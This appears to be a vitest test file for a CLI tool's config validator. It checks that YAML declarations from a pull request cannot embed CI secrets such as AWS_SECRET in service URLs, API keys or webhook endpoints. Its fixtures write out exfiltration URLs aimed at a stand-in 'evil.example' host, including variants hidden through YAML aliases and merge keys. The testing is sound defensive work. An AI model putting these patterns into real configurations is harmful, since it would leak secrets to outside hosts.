/** A declaration of a pull request sends no variable of the job to a host of its choice. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, it, onTestFinished } from 'vitest';
import { openHarness } from '../harness.ts';

const canary = 'canary-0123456789abcdef';
const url = `https://evil.example/\${AWS_SECRET}`;

/** A host of the attacker's that keeps what it is sent. */
async function listener(): Promise<{ origin: string; heard: () => string }> {
  let heard = '';
  const server = createServer((request, response) => {
    heard += `${request.url} ${JSON.stringify(request.headers)}\n`;
    response.end('{}');
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  onTestFinished(() => void server.close());
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, heard: () => heard };
}

const delivery = (rest: string) => `name: acme\nwebhookDeliveries:\n  results: ${rest}\n`;
const schedule = (rest: string) =>
  `name: acme\ncollectorSchedules:\n  nightly: { collector: c_prices, every: 1h, inputs: [{ url: "https://a.example/\${AWS_SECRET}" }], ${rest} }\n`;

const refused: [what: string, declaration: string, field: string][] = [
  ['the URL of the service', `service: { url: "${url}" }`, 'service.url'],
  ['the URL of the manager', `manager: { url: "${url}" }`, 'manager.url'],
  ['the URL of the trigger service', `triggers: { url: "${url}" }`, 'triggers.url'],
  ['the key', `service: { url: "https://evil.example", apiKey: "\${AWS_SECRET}" }`, 'service.apiKey'],
  ['the token of the trigger service', `triggers: { token: "\${AWS_SECRET}" }`, 'triggers.token'],
  ['the URL of one manager', `managerSettings: { local: { url: "${url}", logs: 5 } }`, 'managerSettings.local.url'],
  ['an endpoint', delivery(`{ endpoint: "${url}" }`), 'webhookDeliveries.results.endpoint'],
  [
    'a notice',
    delivery(`{ notify: { type: webhook, endpoint: "${url}" } }`),
    'webhookDeliveries.results.notify.endpoint',
  ],
  ['an alert', schedule(`alerts: { endpoint: "${url}" }`), 'collectorSchedules.nightly.alerts.endpoint'],
  [
    'a delivery in a schedule',
    schedule(`delivery: { endpoint: "${url}" }`),
    'collectorSchedules.nightly.delivery.endpoint',
  ],
  ['an alias', `name: &a "${url}"\nservice: { url: *a }`, 'service.url'],
  ['a merged map', `${schedule('paused: true').replace('[{ url', '[&m { url')}service: { <<: *m }\n`, 'service.url'],
  ['a key in a URL', `service: { url: "https://evil.example/\${WEBDATA_API_KEY}" }`, 'service.url'],
];

it.each(
  refused,
)('in %s, a variable that is not allowed is refused, with the flag that allows it', async (_, yaml, field) => {
  await using harness = await openHarness('plain');
  await harness.write('webdata.yaml', `${yaml}\n`);
  const env = { AWS_SECRET: canary, WEBDATA_API_KEY: canary };
  for (const args of [['validate'], ['plan'], ['drift']]) {
    const { code, stdout, stderr } = await harness.webdataWith({ env }, ...args);
    expect({ args, code }).toEqual({ args, code: 1 });
    expect(stderr).toMatch(/webdata\.yaml:\d+:\d+: the variable `(AWS_SECRET|WEBDATA_API_KEY)` may not be used here/);
    expect(stderr).toMatch(/add --allow-env \w+ \(in CI: WEBDATA_ALLOW_ENV=\w+\)/);
    expect(stdout + stderr).not.toContain(canary);
  }
  expect(field).toMatch(/\./);
});

it('no byte reaches the host that a declaration names', async () => {
  await using harness = await openHarness('plain');
  const { origin, heard } = await listener();
  await harness.write(
    'webdata.yaml',
    `service: { url: "${origin}/\${AWS_SECRET}" }\nzoneIpAllocations: { a: { zones: { b: { count: 1 } } } }\n`,
  );
  await harness.webdataWith({ env: { AWS_SECRET: canary, WEBDATA_API_URL: undefined } }, 'plan');
  expect(heard()).toBe('');
});

it('variables of this tool, and those that a flag or the environment allows, stand in URLs', async () => {
  await using harness = await openHarness('plain');
  const { emulator } = harness;
  const { hostname, port } = new URL(emulator.apiUrl);
  const env = { API_HOST: hostname, API_PORT: port, WEBDATA_HOST: hostname };
  await harness.write('webdata.yaml', `service: { url: "http://\${API_HOST}:\${API_PORT}" }\n`);
  const validate = (more: object, ...args: string[]) =>
    harness.webdataWith({ env: { ...env, ...more } }, 'validate', ...args);
  expect(await validate({})).toMatchObject({ code: 1 });
  expect(await validate({}, '--allow-env', 'API_HOST')).toMatchObject({
    code: 1,
    stderr: expect.stringContaining('API_PORT'),
  });
  expect(await validate({}, '--allow-env', 'API_HOST', '--allow-env', 'API_PORT')).toMatchObject({ code: 0 });
  expect(await validate({}, '--allow-env', 'API_*')).toMatchObject({ code: 0 });
  expect(await validate({ WEBDATA_ALLOW_ENV: 'API_HOST, API_PORT' })).toMatchObject({ code: 0 });
  await harness.write('webdata.yaml', `service: { url: "http://\${WEBDATA_HOST}:${port}" }\n`);
  expect(await validate({})).toMatchObject({ code: 0 });
});

it('inputs and other texts take any variable, as they decide nothing about where something is sent', async () => {
  await using harness = await openHarness('plain');
  await harness.write('webdata.yaml', schedule(`runName: "\${AWS_SECRET}"`));
  expect(await harness.webdataWith({ env: { AWS_SECRET: canary } }, 'validate')).toMatchObject({ code: 0 });
});
